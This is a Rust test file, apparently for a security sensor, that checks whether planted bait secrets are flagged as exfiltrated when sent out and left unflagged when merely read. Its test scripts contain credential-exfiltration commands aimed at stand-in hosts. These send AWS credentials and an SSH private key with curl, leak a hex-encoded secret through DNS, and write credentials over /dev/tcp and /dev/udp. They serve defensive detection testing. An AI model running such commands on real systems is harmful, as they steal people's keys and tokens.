//! Baits that leave are seen leaving; baits that are only read are not.

use crate::support::{Place, SENSORS, has, root};

#[test]
fn a_bait_that_leaves_is_told_with_its_conversation_and_process() {
    if !has("curl") || !has("dig") || !root() {
        return;
    }
    for sensor in SENSORS {
        let run = Place::new().script(
            sensor,
            "curl -s -m 9 https://a.example/ -d @$HOME/.aws/credentials -o /dev/null; \
             gzip -c $HOME/.ssh/id_ed25519 | base64 -w0 | curl -s -m 9 http://b.example/ --data-binary @- -o /dev/null; \
             curl -s -m 9 --http2 https://c.example/ -H \"Authorization: Bearer $GITHUB_TOKEN\" -o /dev/null; \
             n=$(printf %s \"$AWS_SECRET_ACCESS_KEY\" | od -An -tx1 | tr -d ' \\n'); \
             i=0; for part in $(echo $n | fold -w 30); do dig +short $i.$part.d.example >/dev/null; i=$((i+1)); done; \
             printf %s \"$AWS_ACCESS_KEY_ID\" | rev > /dev/udp/203.0.113.5/7000",
        );
        let told = |bait: &str| {
            run.one("bait.exfiltrated", |event| {
                event["bait"]["bait"] == bait && !event["bait"]["encoding"].as_str().unwrap().is_empty()
            })
        };
        for (bait, encoding) in [
            ("root_aws_credentials", "plain"),
            ("env_github_token", "plain"),
            ("env_aws_secret_access_key", "hex"),
            ("env_aws_access_key_id", "reversed"),
        ] {
            let event = told(bait);
            assert_eq!(event["bait"]["encoding"], encoding, "{sensor}: {event:#}");
            assert!(event["process"]["exe"].is_string() && event["bait"]["flow"]["id"].is_u64(), "{event:#}");
        }
        let key = told("root_ssh_key")["bait"]["encoding"].as_str().unwrap().to_owned();
        assert!(key.contains("gzip") && key.contains("base64"), "{key}");
    }
}

#[test]
fn a_run_that_only_reads_its_baits_and_talks_of_other_things_raises_no_alarm() {
    if !has("curl") {
        return;
    }
    let run = Place::new().script(
        "ptrace",
        "cat $HOME/.aws/credentials $HOME/.ssh/* $HOME/.kube/config > /dev/null; env > /dev/null; \
         head -c 200000 /dev/urandom | curl -s -m 9 http://a.example/ --data-binary @- -o /dev/null; \
         cat /etc/services | base64 | curl -s -m 9 https://b.example/ --data-binary @- -o /dev/null; \
         curl -s -m 9 http://169.254.169.254/latest/meta-data/iam/security-credentials/production-instance -o /dev/null",
    );
    assert!(!run.of("bait.read").is_empty());
    assert!(run.of("bait.exfiltrated").is_empty(), "{:#?}", run.of("bait.exfiltrated"));
}

/// Several at once, so that the last words of some are still in the kernel's buffers when the run ends.
#[test]
fn what_is_sent_in_the_last_moment_before_the_end_is_looked_through_like_all_else() {
    if !has("bash") {
        return;
    }
    for sensor in SENSORS {
        let run = Place::new().script(
            sensor,
            "for port in 9001 9002 9003 9004; do
                 bash -c 'exec 3<>/dev/tcp/203.0.113.9/'$port'; head -c 700000 /dev/zero >&3; cat $HOME/.aws/credentials >&3' &
             done
             wait
             bash -c 'exec 3<>/dev/tcp/203.0.113.9/9005; cat $HOME/.aws/credentials >&3'",
        );
        let mut ports: Vec<u64> = run
            .of("bait.exfiltrated")
            .iter()
            .filter(|event| event["bait"]["bait"] == "root_aws_credentials")
            .map(|event| event["bait"]["flow"]["remote"]["port"].as_u64().unwrap())
            .collect();
        ports.sort_unstable();
        assert_eq!(ports, [9001, 9002, 9003, 9004, 9005], "{sensor}");
        for flow in run.of("network.flow") {
            assert_eq!(flow["network"]["end"], "closed", "{sensor}: {flow:#}");
        }
    }
}
